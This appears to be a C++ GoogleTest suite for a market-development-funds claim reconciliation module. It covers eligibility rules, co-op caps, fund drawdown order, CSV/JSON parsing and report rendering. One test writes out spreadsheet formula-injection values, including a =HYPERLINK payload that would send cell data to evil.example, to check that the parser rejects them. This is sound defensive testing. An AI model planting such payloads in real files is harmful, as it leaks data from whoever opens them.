// MDF without a database: claim formats, the reconciliation rules one by one and together, funds
// drawn down in receipt order, and the report's bytes.
#include "mdf/mdf.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>

namespace channeld::mdf {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

SysTime utc(int y, unsigned m, unsigned d, int hour = 0) {
  return SysTime{std::chrono::sys_days{std::chrono::year{y} / m / d}} + std::chrono::hours{hour};
}

Claim base_claim() {
  Claim c;
  c.claim_id = "C-1";
  c.partner_id = "acme-it";
  c.kit_id = "cloud";
  c.period = Period{2026, 4};
  c.activity_start = std::chrono::year{2026} / 12 / 1;
  c.activity_end = std::chrono::year{2026} / 12 / 20;
  c.amount_claimed = 40000;  // 400.00
  c.actual_spend = 100000;   // 1000.00
  c.currency = "USD";
  c.invoice_ref = "INV-1";
  return c;
}

// Inputs under which the base claim is approved in full, with room on every limit.
Inputs base_inputs() {
  Inputs in;
  in.partner_known = true;
  in.partner_active = true;
  in.partner_tier = "gold";
  in.kit_known = true;
  in.terms.eligible = true;
  in.terms.coop_ratio_bp = 5000;
  in.terms.max_per_partner_minor = 500000;
  in.terms.currency = "USD";
  in.terms.claim_window_days = 60;
  in.terms.min_delivered = 100;
  in.terms.min_unique_clicks = 0;
  in.in_audience = true;
  in.results = CampaignResults{150, 12, 3, utc(2026, 12, 10)};
  in.received_at = utc(2027, 1, 5);
  in.fund_currency = "USD";
  in.fund_allocated = 1000000;
  return in;
}

struct Case {
  const char* name;
  std::function<void(Claim&, Inputs&)> change;
  Verdict verdict;
  std::int64_t approved;
  std::vector<std::string> reasons;  // each must appear (as a substring of one reason)
  std::size_t reason_count = 0;      // 0: not checked
};

const std::vector<Case>& cases() {
  static const std::vector<Case> table = {
      {"EverythingInOrderIsApprovedInFull",
       [](Claim&, Inputs&) {},
       Verdict::approved,
       40000,
       {"approved in full: 400.00"},
       1},
      {"UnknownPartnerIsRejected",
       [](Claim&, Inputs& in) { in.partner_known = false; },
       Verdict::rejected,
       0,
       {"partner acme-it is unknown"},
       1},
      {"SuspendedPartnerIsRejected",
       [](Claim&, Inputs& in) { in.partner_active = false; },
       Verdict::rejected,
       0,
       {"partner acme-it is suspended"},
       1},
      {"UnknownKitIsRejected",
       [](Claim&, Inputs& in) { in.kit_known = false; },
       Verdict::rejected,
       0,
       {"kit cloud is unknown"},
       1},
      {"KitNotEligibleIsRejected",
       [](Claim&, Inputs& in) { in.terms.eligible = false; },
       Verdict::rejected,
       0,
       {"kit cloud is not MDF-eligible"},
       1},
      {"PartnerOutsideTheAudienceIsRejected",
       [](Claim&, Inputs& in) { in.in_audience = false; },
       Verdict::rejected,
       0,
       {"partner acme-it is not in the audience of kit cloud"},
       1},
      {"PartnerWithNoDeliveredMessagesIsRejected",
       [](Claim&, Inputs& in) { in.results = CampaignResults{}; },
       Verdict::rejected,
       0,
       {"did not run kit cloud: no delivered messages"},
       1},
      {"TooFewDeliveredNamesThresholdAndMeasure",
       [](Claim&, Inputs& in) { in.results.delivered = 99; },
       Verdict::rejected,
       0,
       {"delivered 99 messages, below the kit's min_delivered of 100"},
       1},
      {"ExactlyMinDeliveredPasses",
       [](Claim&, Inputs& in) { in.results.delivered = 100; },
       Verdict::approved,
       40000,
       {"approved in full"},
       1},
      {"TooFewUniqueClicksNamesThresholdAndMeasure",
       [](Claim&, Inputs& in) { in.terms.min_unique_clicks = 13; },
       Verdict::rejected,
       0,
       {"12 unique clicks, below the kit's min_unique_clicks of 13"},
       1},
      {"ClaimExactlyAtTheWindowLimitIsInTime",
       [](Claim&, Inputs& in) { in.received_at = utc(2026, 12, 10) + std::chrono::days{60}; },
       Verdict::approved,
       40000,
       {"approved in full"},
       1},
      {"ClaimOneSecondPastTheWindowIsRejected",
       [](Claim&, Inputs& in) {
         in.received_at = utc(2026, 12, 10) + std::chrono::days{60} + std::chrono::seconds{1};
       },
       Verdict::rejected,
       0,
       {"received 2027-02-08, more than the kit's 60 claim_window_days after the last send on "
        "2026-12-10"},
       1},
      {"NoInvoiceIsPendingNotRejected",
       [](Claim& c, Inputs&) { c.invoice_ref.clear(); },
       Verdict::pending,
       0,
       {"no invoice_ref"},
       1},
      {"CoopRatioBindsAndIsNamed",
       [](Claim& c, Inputs&) { c.amount_claimed = 60000; },
       Verdict::partially_approved,
       50000,
       {"approved 500.00 of 600.00 claimed",
        "coop_ratio 0.5 of actual spend 1000.00 allows 500.00"},
       2},
      {"CoopShareRoundsDownToTheMinorUnit",
       [](Claim& c, Inputs& in) {
         c.actual_spend = 33333;  // 333.33 x 0.3333 = 111.098889
         in.terms.coop_ratio_bp = 3333;
         c.amount_claimed = 20000;
       },
       Verdict::partially_approved,
       11109,
       {"coop_ratio 0.3333 of actual spend 333.33 allows 111.09"},
       2},
      {"ClaimExactlyAtTheKitCapIsApproved",
       [](Claim&, Inputs& in) { in.terms.max_per_partner_minor = 40000; },
       Verdict::approved,
       40000,
       {"approved in full"},
       1},
      {"KitCapLessEarlierApprovalsBinds",
       [](Claim&, Inputs& in) { in.kit_approved_before = 480000; },
       Verdict::partially_approved,
       20000,
       {"the kit's max_per_partner 5000.00 less 4800.00 already approved on kit cloud leaves "
        "200.00"},
       2},
      {"KitCapUsedUpIsRejected",
       [](Claim&, Inputs& in) { in.kit_approved_before = 500000; },
       Verdict::rejected,
       0,
       {"nothing left to approve of 400.00 claimed", "leaves 0.00"},
       2},
      {"FundRemainderBinds",
       [](Claim&, Inputs& in) { in.fund_used_before = 970000; },
       Verdict::partially_approved,
       30000,
       {"the 2026-Q4 fund of 10000.00 has 300.00 left after earlier claims"},
       2},
      {"FundExhaustedIsRejected",
       [](Claim&, Inputs& in) { in.fund_used_before = 1000000; },
       Verdict::rejected,
       0,
       {"nothing left to approve", "has 0.00 left"},
       2},
      {"TwoLimitsBindingAtOnceAreBothNamed",
       [](Claim& c, Inputs& in) {
         c.amount_claimed = 60000;
         in.fund_used_before = 950000;  // 500.00 left, as the co-op share
       },
       Verdict::partially_approved,
       50000,
       {"coop_ratio 0.5", "has 500.00 left"},
       3},
      {"SeveralRejectionsAreAllGivenAndOutrankPending",
       [](Claim& c, Inputs& in) {
         in.partner_active = false;
         in.results.delivered = 20;
         in.received_at = utc(2027, 6, 1);
         c.invoice_ref.clear();
       },
       Verdict::rejected,
       0,
       {"is suspended", "delivered 20 messages, below the kit's min_delivered of 100",
        "claim_window_days"},
       3},
      {"ClaimInAnotherCurrencyThanFundAndKitIsRejected",
       [](Claim& c, Inputs&) { c.currency = "EUR"; },
       Verdict::rejected,
       0,
       {"claim currency EUR is not the fund's currency USD", "is not the kit's currency USD"},
       2},
      {"ClaimInTheFundCurrencyButNotTheKitsIsRejected",
       [](Claim&, Inputs& in) { in.terms.currency = "EUR"; },
       Verdict::rejected,
       0,
       {"claim currency USD is not the kit's currency EUR"},
       1},
  };
  return table;
}

class ReconcileRule : public ::testing::TestWithParam<Case> {};

TEST_P(ReconcileRule, DecidesAsTheRuleSays) {
  const Case& tc = GetParam();
  Claim claim = base_claim();
  Inputs inputs = base_inputs();
  tc.change(claim, inputs);
  const Decision d = reconcile(claim, inputs);
  EXPECT_EQ(to_string(d.verdict), to_string(tc.verdict));
  EXPECT_EQ(d.amount_approved, tc.approved);
  ASSERT_FALSE(d.reasons.empty());
  for (const auto& expected : tc.reasons) {
    EXPECT_TRUE(std::any_of(d.reasons.begin(), d.reasons.end(),
                            [&](const std::string& r) { return r.find(expected) != r.npos; }))
        << "no reason contains: " << expected << "\ngot: " << ::testing::PrintToString(d.reasons);
  }
  if (tc.reason_count != 0) {
    EXPECT_EQ(d.reasons.size(), tc.reason_count) << ::testing::PrintToString(d.reasons);
  }
  for (const auto& r : d.reasons)
    EXPECT_THAT(r, Not(HasSubstr("; "))) << "reasons are joined by '; '";
}

INSTANTIATE_TEST_SUITE_P(Rules, ReconcileRule, ::testing::ValuesIn(cases()),
                         [](const ::testing::TestParamInfo<Case>& rule) {
                           return std::string(rule.param.name);
                         });

// ---- funds in receipt order -------------------------------------------------------------------

Facts two_partner_facts() {
  Facts f;
  f.fund_currency = "USD";
  f.partners["acme-it"] = {true, "gold", 50000};  // 500.00 a quarter
  f.partners["northwind"] = {true, "platinum", 1000000};
  Facts::KitFacts kit;
  kit.terms = base_inputs().terms;
  kit.in_audience = {{"acme-it", true}, {"northwind", true}};
  f.kits["cloud"] = kit;
  f.results[{"cloud", "acme-it"}] = CampaignResults{150, 12, 3, utc(2026, 12, 10)};
  f.results[{"cloud", "northwind"}] = CampaignResults{300, 40, 5, utc(2026, 12, 11)};
  return f;
}

ReceivedClaim received(std::string id, std::string partner, std::int64_t amount, SysTime at,
                       std::string invoice = "INV") {
  ReceivedClaim r;
  r.claim = base_claim();
  r.claim.claim_id = std::move(id);
  r.claim.partner_id = std::move(partner);
  r.claim.amount_claimed = amount;
  r.claim.actual_spend = amount * 2;
  r.claim.invoice_ref = invoice.empty() ? "" : invoice + "-" + r.claim.claim_id;
  r.received_at = at;
  return r;
}

TEST(Funds, AnEarlierClaimInReceiptOrderExhaustsTheFundForTheNext) {
  const Facts facts = two_partner_facts();
  auto out = reconcile_all({received("A", "acme-it", 40000, utc(2027, 1, 2)),
                            received("B", "acme-it", 30000, utc(2027, 1, 3)),
                            received("C", "acme-it", 10000, utc(2027, 1, 4))},
                           facts);
  ASSERT_EQ(out.size(), 3u);
  EXPECT_EQ(out[0].decision.verdict, Verdict::approved);
  EXPECT_EQ(out[1].decision.verdict, Verdict::partially_approved);
  EXPECT_EQ(out[1].decision.amount_approved, 10000);
  EXPECT_EQ(out[1].inputs.fund_used_before, 40000);
  EXPECT_EQ(out[2].decision.verdict, Verdict::rejected);
  EXPECT_THAT(out[2].decision.reasons.back(), HasSubstr("has 0.00 left"));
}

TEST(Funds, PendingAndRejectedClaimsDrawNothingAndFundsArePerPartnerAndPeriod) {
  const Facts facts = two_partner_facts();
  ReceivedClaim next_quarter = received("D", "acme-it", 40000, utc(2027, 1, 5));
  next_quarter.claim.period = Period{2027, 1};
  auto out = reconcile_all({received("A", "acme-it", 40000, utc(2027, 1, 2), ""),
                            received("B", "northwind", 40000, utc(2027, 1, 3)),
                            received("C", "acme-it", 50000, utc(2027, 1, 4)), next_quarter},
                           facts);
  EXPECT_EQ(out[0].decision.verdict, Verdict::pending);
  EXPECT_EQ(out[1].decision.verdict, Verdict::approved);
  EXPECT_EQ(out[2].decision.verdict, Verdict::approved) << "the pending claim held nothing back";
  EXPECT_EQ(out[2].inputs.fund_used_before, 0);
  EXPECT_EQ(out[3].inputs.fund_used_before, 0) << "2027-Q1 is a fresh fund";
  EXPECT_EQ(out[3].inputs.kit_approved_before, 50000) << "the kit cap spans periods";
}

TEST(Funds, UnknownPartnerHasNoFundAndIsRejectedOnce) {
  auto out = reconcile_all({received("A", "ghost", 100, utc(2027, 1, 2))}, two_partner_facts());
  EXPECT_EQ(out[0].decision.verdict, Verdict::rejected);
  EXPECT_THAT(out[0].decision.reasons, ElementsAre("partner ghost is unknown"));
}

TEST(Funds, InputsAreRecordedAsStableJson) {
  const Inputs in = base_inputs();
  const std::string text = to_json(in).dump();
  EXPECT_EQ(text, to_json(base_inputs()).dump());
  EXPECT_THAT(text, HasSubstr("\"last_send\":\"2026-12-10T00:00:00Z\""));
  EXPECT_THAT(text, HasSubstr("\"coop_ratio\":\"0.5\""));
  EXPECT_THAT(text, HasSubstr("\"fund_allocated\":\"10000.00\""));
}

// ---- claim formats ----------------------------------------------------------------------------

TEST(Period, ParsesAQuarterAndRefusesAnythingElse) {
  EXPECT_EQ(parse_period("2026-Q4", "x").text(), "2026-Q4");
  EXPECT_EQ(parse_period("2027-Q1", "x"), (Period{2027, 1}));
  for (const char* bad : {"2026-Q5", "2026-Q0", "2026Q4", "26-Q4", "2026-q4", ""}) {
    EXPECT_THROW(parse_period(bad, "x"), InputError) << bad;
  }
}

constexpr const char* kHeader =
    "claim_id,partner_id,kit_id,period,activity_start,activity_end,amount_claimed,actual_spend,"
    "currency,invoice_ref\n";

TEST(ClaimsCsv, ABadRowIsReportedWithFileLineAndFieldWhileGoodRowsLoad) {
  const std::string text =
      std::string(kHeader) +
      "C-1,acme-it,cloud,2026-Q4,2026-12-01,2026-12-20,400.00,1000.00,USD,INV-1\n"
      "C-2,acme-it,cloud,2026-Q4,2026-12-01,2026-12-20,12.345,1000.00,USD,\n"
      "\n"
      "\"C-3\",northwind,cloud,2026-Q4,2026-12-01,2026-12-20,\"1250\",2500,USD,\n"
      "C-4,northwind,cloud,2026-Q9,2026-12-01,2026-12-20,1,2,USD,\n"
      "C-5,northwind,cloud\n";
  auto rows = read_claims_csv(text, "claims/q4.csv");
  ASSERT_EQ(rows.size(), 5u);
  ASSERT_TRUE(rows[0].claim);
  EXPECT_EQ(rows[0].claim->amount_claimed, 40000);
  EXPECT_EQ(rows[0].claim->invoice_ref, "INV-1");
  EXPECT_FALSE(rows[1].claim);
  EXPECT_EQ(rows[1].where, "claims/q4.csv:3");
  EXPECT_THAT(rows[1].error, HasSubstr("amount_claimed: '12.345' is not an amount"));
  ASSERT_TRUE(rows[2].claim) << rows[2].error;
  EXPECT_EQ(rows[2].where, "claims/q4.csv:5");
  EXPECT_EQ(rows[2].claim->amount_claimed, 125000);
  EXPECT_TRUE(rows[2].claim->invoice_ref.empty());
  EXPECT_THAT(rows[3].error, HasSubstr("period: '2026-Q9' is not a quarter"));
  EXPECT_THAT(rows[4].error, HasSubstr("has 3 fields, the header 10"));
}

TEST(ClaimsCsv, ColumnsMayComeInAnyOrderAndAMissingOneIsAHeaderError) {
  auto rows = read_claims_csv(
      "invoice_ref,currency,actual_spend,amount_claimed,activity_end,activity_start,period,kit_id,"
      "partner_id,claim_id,note\r\nINV,USD,10,5,2026-10-02,2026-10-01,2026-Q4,cloud,acme-it,C-9,"
      "hi\r\n",
      "q.csv");
  ASSERT_EQ(rows.size(), 1u);
  ASSERT_TRUE(rows[0].claim) << rows[0].error;
  EXPECT_EQ(rows[0].claim->claim_id, "C-9");
  EXPECT_EQ(rows[0].claim->amount_claimed, 500);
  try {
    read_claims_csv("claim_id,partner_id\nC,acme\n", "q.csv");
    FAIL() << "a header without the contract's columns must throw";
  } catch (const InputError& e) {
    EXPECT_THAT(e.what(), HasSubstr("q.csv:1: missing column 'kit_id'"));
  }
}

TEST(ClaimsCsv, RefusesActivityEndingBeforeItStartsAndABadPartnerId) {
  auto rows = read_claims_csv(std::string(kHeader) +
                                  "C-1,acme-it,cloud,2026-Q4,2026-12-20,2026-12-01,1,2,USD,\n"
                                  "C-2,Acme IT,cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,\n",
                              "q.csv");
  EXPECT_THAT(rows[0].error, HasSubstr("activity_end: 2026-12-01 is before activity_start"));
  EXPECT_THAT(rows[1].error, HasSubstr("partner_id: 'Acme IT' must be lower-case"));
}

// Partners write these ids and finance opens the report in a spreadsheet.
TEST(ClaimsCsv, RefusesIdsASpreadsheetWouldRunAsFormulas) {
  auto rows = read_claims_csv(
      std::string(kHeader) +
          "\"=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"x\"\")\",acme-it,cloud,2026-Q4,"
          "2026-12-01,2026-12-20,1,2,USD,\n"
          "C-2,acme-it,+cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,\n"
          "C-3,acme-it,cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,@SUM(1)\n"
          "C-4,acme-it,cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,INV-=1\n"
          "-1+1,acme-it,cloud,2026-Q4,2026-12-01,2026-12-20,1,2,USD,\n"
          "C-6,acme-it,-beta,2026-Q4,2026-12-01,2026-12-20,1,2,USD,-7\n",
      "q.csv");
  ASSERT_EQ(rows.size(), 6u);
  EXPECT_THAT(rows[0].error, HasSubstr("claim_id: '=HYPERLINK("));
  EXPECT_THAT(rows[0].error, HasSubstr("would run it as a formula"));
  EXPECT_THAT(rows[1].error, HasSubstr("kit_id: '+cloud' must not start with"));
  EXPECT_THAT(rows[2].error, HasSubstr("invoice_ref: '@SUM(1)' must not start with"));
  EXPECT_TRUE(rows[3].claim) << "inside an id the characters are harmless: " << rows[3].error;
  EXPECT_THAT(rows[4].error, HasSubstr("claim_id: '-1+1' must not start with"));
  EXPECT_TRUE(rows[5].claim) << "a plain id may start with '-': " << rows[5].error;
}

// A claim stored before a rule was added is still read back (the store reads every claim
// through parse_claim): the rules refuse new claims only.
TEST(ClaimsCsv, RulesForNewClaimsDoNotRefuseStoredOnes) {
  const std::map<std::string, std::string> fields{{"claim_id", "=old"},
                                                  {"partner_id", "acme-it"},
                                                  {"kit_id", "cloud"},
                                                  {"period", "2026-Q4"},
                                                  {"activity_start", "2026-12-01"},
                                                  {"activity_end", "2026-12-20"},
                                                  {"amount_claimed", "20000000000.00"},
                                                  {"actual_spend", "1.00"},
                                                  {"currency", "USD"},
                                                  {"invoice_ref", "@INV"}};
  EXPECT_THROW(parse_claim(fields, "q.csv:2"), InputError);
  const Claim stored = parse_claim(fields, "mdf_claim 7", ClaimSource::stored);
  EXPECT_EQ(stored.claim_id, "=old");
  EXPECT_EQ(stored.amount_claimed, 2'000'000'000'000);
}

TEST(ClaimsJson, ReadsAnObjectOrAnArrayAndReportsEachBadClaim) {
  auto body = nlohmann::json::parse(R"([
    {"claim_id": "J-1", "partner_id": "acme-it", "kit_id": "cloud", "period": "2026-Q4",
     "activity_start": "2026-12-01", "activity_end": "2026-12-02", "amount_claimed": "10.50",
     "actual_spend": "21.00", "currency": "USD", "invoice_ref": "I-1", "extra": 1},
    {"claim_id": "J-2", "amount_claimed": 10.5},
    "nonsense"])");
  auto rows = read_claims_json(body, "request body");
  ASSERT_EQ(rows.size(), 3u);
  ASSERT_TRUE(rows[0].claim) << rows[0].error;
  EXPECT_EQ(rows[0].claim->amount_claimed, 1050);
  EXPECT_EQ(rows[1].where, "request body: claim 2");
  EXPECT_THAT(rows[1].error, HasSubstr("amount_claimed: must be a string"));
  EXPECT_EQ(rows[2].error, "not an object");
  EXPECT_EQ(read_claims_json(body[0], "b").size(), 1u);
  EXPECT_THROW(read_claims_json(nlohmann::json(3), "b"), InputError);
  EXPECT_EQ(to_json(*rows[0].claim)["amount_claimed"], "10.50");
}

// ---- the report ---------------------------------------------------------------------------------

Report small_report() {
  Report r;
  r.period = Period{2026, 4};
  r.currency = "USD";
  ReportRow b{received("B-2", "northwind", 30000, utc(2027, 1, 2)).claim, "platinum",
              Decision{Verdict::partially_approved,
                       20000,
                       {"approved 200.00 of 300.00 claimed", "the kit's cap, \"quoted\""}},
              CampaignResults{300, 40, 5, std::nullopt}};
  ReportRow a{received("A-1", "acme-it", 40000, utc(2027, 1, 3), "").claim, "gold",
              Decision{Verdict::pending, 0, {"no invoice_ref"}},
              CampaignResults{150, 12, 3, std::nullopt}};
  r.rows = {b, a};
  r.partners = {{"northwind", "platinum", 1000000, 30000, 20000, 300, 40, 5},
                {"acme-it", "gold", 50000, 40000, 0, 150, 12, 0}};
  r.leads = LeadTotals{100000, 500000, 200000, 300000};
  r.gross_margin_rate_bp = 3000;
  r.program_costs = 4500000;
  return r;
}

TEST(Report, CsvHasTheContractsColumnsSortedByPartnerThenClaimWithReasonsQuoted) {
  EXPECT_EQ(render_csv(small_report()),
            "claim_id,partner_id,partner_tier,kit_id,currency,amount_claimed,actual_spend,"
            "amount_approved,decision,reasons,delivered,unique_clicks,leads\n"
            "A-1,acme-it,gold,cloud,USD,400.00,800.00,0.00,pending,\"no invoice_ref\",150,12,3\n"
            "B-2,northwind,platinum,cloud,USD,300.00,600.00,200.00,partially_approved,"
            "\"approved 200.00 of 300.00 claimed; the kit's cap, \"\"quoted\"\"\",300,40,5\n");
}

TEST(Report, JsonCarriesProgramFiguresAndRopiWithTwoPlaces) {
  const auto json = nlohmann::json::parse(render_json(small_report()));
  EXPECT_EQ(json["period"], "2026-Q4");
  EXPECT_EQ(json["claims"][0]["claim_id"], "A-1");
  EXPECT_EQ(json["partners"][0]["partner_id"], "acme-it");
  EXPECT_EQ(json["partners"][0]["remaining"], "500.00");
  EXPECT_TRUE(json["partners"][0]["approved_per_lead"].is_null());
  EXPECT_EQ(json["partners"][1]["approved_per_lead"], "40.00");
  const auto& p = json["program"];
  EXPECT_EQ(p["claimed"], "700.00");
  EXPECT_EQ(p["approved"], "200.00");
  EXPECT_EQ(p["pending"], "400.00");
  EXPECT_EQ(p["rejected"], "0.00");
  EXPECT_EQ(p["won"], "8000.00");
  EXPECT_EQ(p["gross_margin_rate"], "0.3");
  EXPECT_EQ(p["gross_margin"], "2400.00");
  EXPECT_EQ(p["program_costs"], "45000.00");
  EXPECT_EQ(p["total_cost"], "45200.00");
  EXPECT_EQ(p["ropi"], "0.05") << "2400 / 45200 = 0.0531, rounded down";
}

TEST(Report, RopiIsNullWhenThereIsNoCost) {
  Report r = small_report();
  r.rows.clear();
  r.program_costs = 0;
  EXPECT_TRUE(nlohmann::json::parse(render_json(r))["program"]["ropi"].is_null());
}

TEST(Report, SameInputsGiveTheSameBytesWhateverTheRowOrder) {
  Report a = small_report(), b = small_report();
  std::reverse(b.rows.begin(), b.rows.end());
  std::reverse(b.partners.begin(), b.partners.end());
  EXPECT_EQ(render_csv(a), render_csv(b));
  EXPECT_EQ(render_json(a), render_json(b));
  EXPECT_EQ(render_html(a), render_html(b));
}

TEST(Report, HtmlIsSelfContainedWithAChartAndEveryFigure) {
  const std::string html = render_html(small_report());
  EXPECT_THAT(html, Not(HasSubstr("<script")));
  EXPECT_THAT(html, Not(HasSubstr("src=")));
  EXPECT_THAT(html, Not(HasSubstr("href=")));
  EXPECT_THAT(html, Not(HasSubstr("@import")));
  EXPECT_THAT(html, HasSubstr("<svg role=\"img\""));
  EXPECT_THAT(html, HasSubstr("data-figure=\"program.ropi\">0.05<"));
  EXPECT_THAT(html, HasSubstr("data-figure=\"partners.1.approved\">200.00<"));
  EXPECT_THAT(html, HasSubstr("the kit&#39;s cap, &quot;quoted&quot;"));
  EXPECT_THAT(html, HasSubstr("@media print"));
}

}  // namespace
}  // namespace channeld::mdf
